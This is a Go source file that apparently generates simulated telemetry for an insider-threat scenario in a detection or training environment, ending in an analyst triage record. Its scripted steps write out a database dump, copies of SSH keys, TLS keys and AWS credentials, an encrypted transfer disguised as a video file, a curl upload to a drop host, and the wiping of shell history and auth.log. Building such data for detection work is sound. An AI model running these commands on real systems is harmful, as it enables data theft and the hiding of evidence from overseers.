package demo

import (
	"fmt"
	"time"
)

// leaver: a database administrator who has given notice takes the customers along, by
// night, with rights that were given for something else.
func leaver(s *scene) {
	c := s.company
	lt := c.laptopOf(insider)
	at := s.at(1, 1, 8)
	a := s.on("db-01", "insider", at)
	sh := a.logon(insider, lt.owner.uid, lt.ip, lt.name, "")
	a.run(sh, "/usr/bin/psql", `psql -l`)
	a.after(4 * time.Minute)
	pg := a.runAs(sh, "/usr/bin/sudo", "sudo -u postgres -i", a.h.account("postgres", 110), nil)
	psh := a.run(pg, "/usr/bin/bash", "-bash")
	a.run(psh, "/usr/bin/pg_dump", "pg_dump -Fc -t 'customer*' -t contracts crm")
	a.file(psh, "FileCreated", file("/var/tmp/.crm.dump", "the customers", 1_900<<20))
	a.flush()
	a.after(9 * time.Minute)
	for _, p := range []string{"/var/lib/postgresql/.pgpass", "/root/.ssh/id_rsa", "/etc/ssl/private/db-01.key", "/var/lib/postgresql/.aws/credentials"} {
		cp := a.run(psh, "/usr/bin/cp", "cp "+p+" /var/tmp/.k/")
		a.reads(cp, p)
	}
	a.run(psh, "/usr/bin/gpg", "gpg --symmetric --batch --passphrase-fd 0 -o /var/tmp/.crm.bin /var/tmp/.crm.dump")
	a.flush()
	a.after(14 * time.Minute)
	scp := a.run(sh, "/usr/bin/scp", "scp /var/tmp/.crm.bin "+insider+"@"+lt.name+":/home/"+insider+"/Videos/holiday.mkv")
	a.connect(scp, lt.ip, 22, lt.fqdn())
	a.flush()
	a.after(10 * time.Minute)
	t := a.run(sh, "/usr/bin/truncate", "truncate -s 0 /home/"+insider+"/.bash_history")
	a.file(t, "FileModified", file("/home/"+insider+"/.bash_history", "empty", 0))
	sed := a.run(sh, "/usr/bin/sed", "sed -i /"+insider+"/d /var/log/auth.log")
	a.file(sed, "FileModified", file("/var/log/auth.log", "cleaned log", 80_000))
	a.flush()

	l := s.on(lt.name, "insider", at.Add(52*time.Minute))
	user := lt.account(insider, lt.owner.uid)
	term := l.begin("/usr/bin/bash", "bash", user, nil)
	l.device(term, "UsbDriveMounted", nil, m{"DriveLetter": "/media/" + insider + "/T7", "ProductName": "Portable SSD T7", "SerialNumber": fmt.Sprintf("S6%08X", hash64(insider)&0xffffffff), "Manufacturer": "Samsung"})
	cp := l.run(term, "/usr/bin/cp", "cp /home/"+insider+"/Videos/holiday.mkv /media/"+insider+"/T7/")
	l.file(cp, "FileCreated", file("/media/"+insider+"/T7/holiday.mkv", "the customers, encrypted", 1_900<<20))
	up := l.run(term, "/usr/bin/curl", "curl --upload-file /home/"+insider+"/Videos/holiday.mkv https://"+dropName+"/share/")
	l.resolve(up, dropName, phisherDrop)
	l.connect(up, phisherDrop, 443, dropName)
	l.flush()
	l.after(4 * time.Minute)
	sh2 := l.run(term, "/usr/bin/shred", "shred -u /home/"+insider+"/.bash_history")
	l.file(sh2, "FileDeleted", file("/home/"+insider+"/.bash_history", "history", 1))
	l.flush()
	s.people(at.Add(7*time.Hour), "triage of the leaver", func(d *desk) error {
		return d.triage(c.host("db-01"), m{"assignedTo": "c.haddad@" + domain, "tags": []string{"Insider", "HR informed"},
			"comment": "Administrator under notice. Dump of the customers' tables at night, copied to a private drive. HR and works council are informed; do not contact the person."})
	})
}
